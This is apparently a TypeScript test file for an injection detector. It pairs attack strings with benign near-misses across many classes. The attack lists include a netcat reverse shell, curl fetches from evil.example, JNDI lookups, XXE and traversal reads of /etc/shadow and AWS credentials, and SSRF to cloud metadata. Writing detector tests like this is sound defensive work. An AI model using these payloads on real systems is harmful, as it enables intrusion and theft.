import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { compileInjection } from '../engine.ts'
import type { InjectionClass, TextPlace } from '../finding.ts'

const engine = compileInjection({ threshold: 'balanced' })

function classesOf(text: string, place: TextPlace = 'json-string', urlTyped = false): InjectionClass[] {
  const found = engine.scanText(text, { pointer: '/x', place, urlTyped }, { left: 10_000_000 })
  assert.ok(found !== undefined)
  return found.map((finding) => finding.class)
}

/** For each class: attacks, and what looks like one and is none. */
const examples: Readonly<
  Record<string, { readonly attacks: readonly string[]; readonly near: readonly string[] }>
> = {
  nosqli: {
    attacks: [
      '{"$ne": null}',
      '{ $where: "this.age > 3" }',
      'db.orders.drop()',
      "x' || this.role == 'boss",
      "a'; return true; var b='",
    ],
    near: ['it cost $5 and up', 'return to sender', 'price in US$ and CA$', 'what is this. really', 'A && B'],
  },
  cmdi: {
    attacks: [
      'x;for i in 1 2; do id; done',
      'x;if id; then sleep 5; fi',
      '; Get-ChildItem env:',
      'x;$env:PATH',
      '& %COMSPEC% /c dir',
      "for /f %i in ('dir') do echo %i",
      'x;id 2>&1',
      'bash<<<id',
      'x| reg query "HKLM\\\\SYSTEM"',
      'ping 10.9.8.7',
      'x&curl 10.9.8.7/a',
      '; cat /etc/hostname',
      '| nc 10.9.8.7 4444 -e /bin/sh',
      '$(curl http://evil.example/x)',
      '`whoami`',
      "x & pi''ng -n 3 10.1.1.1",
      'a;wh\\oami',
      '{ls,-la,/srv}',
      'x\ncat${IFS}/srv/data',
      '() { ignored; }; /bin/id',
      '/b?n/ca? /etc/f*',
      'cmd.exe /c dir',
    ],
    near: [
      'if you can; then call',
      'I cleaned it; done',
      'new-style; get-together',
      'wait -- what',
      'rest & sleep well',
      'salt & pepper; then stir',
      'time out; more of the same',
      'Tom | Dick | Harry',
      'docker; kubernetes; helm',
      'find me & who I am',
      'use the `less` command',
      'https://example.com/cat?a=1&sort=name',
    ],
  },
  traversal: {
    attacks: [
      '..%ff/',
      '.aws/credentials',
      '%c0%ae',
      '../../../../srv/secret.txt',
      '..\\..\\boot.ini',
      '%2e%2e%2f%2e%2e%2fetc%2fgroup',
      '..%252f..%252fetc%252fshadow',
      '%c0%ae%c0%ae%c0%afetc%c0%afpasswd',
      '/etc/shadow',
      'php://filter/read=convert.base64-encode/resource=index',
      'file:///etc/hosts',
      'C:\\Windows\\win.ini',
      '/static/..;/manager/html',
    ],
    near: [
      'wait... / or go',
      'and so on../',
      'a/b/c.txt',
      'v1..v2',
      'wait...',
      'images/logo.png',
      'either/or',
      'and so on ... /s',
      '../logo.png',
    ],
  },
  ssti: {
    attacks: [
      '{{ 6*9 }}',
      '${6*9}',
      '#{6*9}',
      "{{ ''.__class__.__mro__ }}",
      '<%= system("id") %>',
      '{% for a in b %}{% endfor %}',
      '<#assign x="y"?new()>',
      '#set($a = 3)',
      '<!--#exec cmd="date" -->',
    ],
    near: [
      'Hello {{name}}',
      'Hi {{ first_name }}',
      '{0} items',
      '${price}',
      '%{count} left',
      'use {{path/to/file}}',
    ],
  },
  el: {
    attacks: [
      '${jndi:ldap://evil.example/a}',
      '${${lower:j}${::-n}di:rmi://evil.example/a}',
      '${${env:NOPE:-j}ndi:dns://evil.example}',
      '%{(#a=@java.lang.Runtime@getRuntime())}',
      "T(java.lang.Runtime).getRuntime().exec('id')",
    ],
    near: ['java island coffee', 'we met at runtime', 'class action', 'jndi: a naming interface'],
  },
  xxe: {
    attacks: [
      '+ADwAIQ-DOCTYPE a+AFs +ADwAIQ-ENTITY b SYSTEM +ACI-c+ACI +AD4AXQA+',
      '<a b="&c;"/>',
      '%a;%b;',
      '<room><bed>2</bed></room>',
      '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hosts">]><a>&b;</a>',
      '<!ENTITY % c SYSTEM "http://evil.example/d">',
      '<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="y"/></x>',
    ],
    near: [
      '<p>See <b>below</b></p>',
      '<none>',
      'A+AB-negative',
      '<?xml version="1.0"?><order><id>7</id></order>',
      'Q&A; then lunch',
      '<!doctype html>',
    ],
  },
  xss: {
    attacks: [
      '<script>f()</script>',
      '"><svg/onload=f()>',
      '<img src=q onerror=f()>',
      '<a href="javascript:f()">x</a>',
      '<iframe src=//evil.example></iframe>',
      '%3Cscript%3Ef()%3C/script%3E',
      '&lt;script&gt;f()&lt;/script&gt;',
      '\\u003cscript\\u003ef()',
      '\uff1cscript\uff1ef()',
      "';alert(1)//",
      '" onmouseover="f()',
    ],
    near: [
      '2 < 3 and 4 > 1',
      '<3 you',
      'a security alert!',
      'JavaScript: The Definitive Guide',
      '<b>bold</b>',
      'once = twice',
    ],
  },
  ldapi: {
    attacks: ['*)(uid=*))(|(uid=*', '(&(cn=a)(!(b=c)))', 'admin)(&)', '*)(objectClass=*'],
    near: ['(a) (b)', 'see (1) and (2)', '(*)', ':-) (-:', 'f(x)(y)'],
  },
  xpath: {
    attacks: ["x' or count(/root)=1 or 'a'='b", '//user[1]/child::node()', "doc('http://evil.example')"],
    near: ['list[0]', 'a // b', 'std::vector', 'count (them)'],
  },
  crlf: {
    attacks: ['a\r\nSet-Cookie: b=c', 'x%0d%0aContent-Length: 0', 'x\nHTTP/1.1 200 OK'],
    near: ['line one\nline two', 'Dear all:\nsee below', 'a\r\n\r\nb'],
  },
  mail: {
    attacks: ['a@b.example\nBcc: c@d.example', 'x%0abcc:%20c@d.example'],
    near: ['On Monday you wrote:\nTo: be or not to be', 'from here to there'],
  },
  ssrf: {
    attacks: [
      '/http://127.0.0.1/',
      'http://h.example:6379/',
      'x=gopher://localhost:25/_a',
      'http://127.0.0.1@h.example/',
      'http://h.example;http://127.0.0.1/',
      'https://a.example/?to=http://169.254.0.9/',
      '0x7f.0.0.1/admin',
      'http://169.254.169.254/latest/meta-data/',
      'http://127.0.0.1:6379/',
      'http://0x7f.0.0.1/',
      'http://2130706433/',
      'http://[::ffff:10.0.0.1]/',
      'gopher://10.1.1.1:25/_x',
      'http://10.0.0.1.nip.io/',
    ],
    near: [
      'https://a.example/?to=https://b.example/',
      'version 10.0.1/arm64',
      '192.168.0.1/24',
      'https://h.example:8443/a',
      'really, http? yes',
      'https://example.com/path?x=1',
      'http://93.184.216.34/',
      'mail me at a@b.example',
      '12:30 / 13:45',
    ],
  },
  deserialisation: {
    attacks: [
      'rO0ABXNyABFqYXZhLnV0aWwu',
      'O:8:"stdClass":0:{}',
      '!!python/object/apply:os.system ["id"]',
      'AAEAAAD/////AQAAAA',
    ],
    near: ['ratio a:b', 'o: yes', 'gasoline', 'what a day!!'],
  },
  code: {
    attacks: [
      '<?php echo 1; ?>',
      "require('child_process')",
      "__import__('os').system('id')",
      'while(true){}',
      'shell_exec($_GET[0])',
    ],
    near: ['php is fine', 'the process is long', 'import your files', 'system (see below)'],
  },
  prototype: {
    attacks: ['__proto__[admin]', 'constructor.prototype.x'],
    near: ['a prototype', 'the constructor of the house'],
  },
}

describe('detectors', () => {
  for (const [kind, { attacks, near }] of Object.entries(examples))
    it(`${kind}: ${attacks.length} attacks, ${near.length} near misses`, () => {
      for (const text of attacks) assert.ok(classesOf(text).length > 0, `missed ${JSON.stringify(text)}`)
      assert.ok(
        attacks.some((text) => classesOf(text).includes(kind as InjectionClass)),
        'found by another class only',
      )
      for (const text of near) assert.deepEqual(classesOf(text), [], JSON.stringify(text))
    })

  it('names: operators, prototypes', () => {
    assert.deepEqual(classesOf('$gt', 'json-key'), ['nosqli'])
    assert.ok(classesOf('user[$ne]', 'name').includes('nosqli'))
    assert.deepEqual(classesOf('user[name]', 'name'), [])
  })

  it('a URL by contract: hosts without a scheme, schemes without a host', () => {
    for (const text of [
      'localhost',
      '10.1.2.3',
      'file:/etc/hosts',
      'ftp://example.com/',
      'http://a@b@c/',
      '127.1',
    ])
      assert.ok(classesOf(text, 'json-string', true).includes('ssrf'), text)
    for (const text of ['https://example.com/', 'example.com/path', 'https://user@example.com/'])
      assert.deepEqual(classesOf(text, 'json-string', true), [], text)
  })
})
